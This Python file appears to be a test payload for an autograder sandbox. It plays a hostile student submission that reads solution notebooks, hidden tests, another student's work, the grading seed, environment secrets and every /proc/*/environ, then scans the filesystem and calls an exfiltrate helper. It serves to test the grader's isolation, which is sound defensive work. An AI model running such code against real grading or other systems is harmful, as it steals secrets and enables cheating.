# ruff: noqa: F821  (LOOT, np and exfiltrate come from _common.py; __NAMES__ are filled in by the test)
"""Read what a submission must not see: the homework sources (solutions and hidden tests), another
submission, the grading seed before the hidden test runs, and a secret in the teacher's environment (the
test sets it before grading) from the kernel's environment and every /proc/PID/environ; then get it out."""

import glob
import os
import time

LOOT.append("env: " + repr({k: v for k, v in os.environ.items() if "SECRET" in k or "SEED" in k}))
n_read = n_refused = 0
for pattern in [
    "__REPO__/homework/source/*/*.ipynb",
    "__REPO__/homework/*.py",
    "__OTHER_SUBMISSION__/*.ipynb",
    "/proc/*/environ",
    "/proc/*/cmdline",
]:
    for p in glob.glob(pattern):
        try:
            with open(p, "rb") as f:
                data = f.read()
        except OSError:
            n_refused += 1
            continue
        n_read += 1
        for needle in (b"BEGIN HIDDEN", b"__SECRET_NAME__", b"LSTM_LAB_GRADING_SEED=", b"BEGIN SOLUTION"):
            if needle in data:
                i = data.index(needle)
                LOOT.append(f"{p}: {data[i : i + 120]!r}")
LOOT.insert(1, f"read {n_read} files, refused {n_refused}")
# every other submission it can see, anywhere; software trees skipped, and at most 2 s of walking, so the cell
# finishes inside the grader's 4 s limit on a machine with a big disk (on a cold cache a full walk took 13 s)
start = time.monotonic()
for root, dirs, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/usr", "/dev")) or time.monotonic() - start > 2.0:
        dirs[:] = []
        continue
    dirs[:] = [d for d in dirs if d not in {".venv", "site-packages", "node_modules", ".cache", ".git"}]
    LOOT.extend(os.path.join(root, f) for f in files if f.endswith(".ipynb") and "a1_" in f)
exfiltrate("read_secrets")
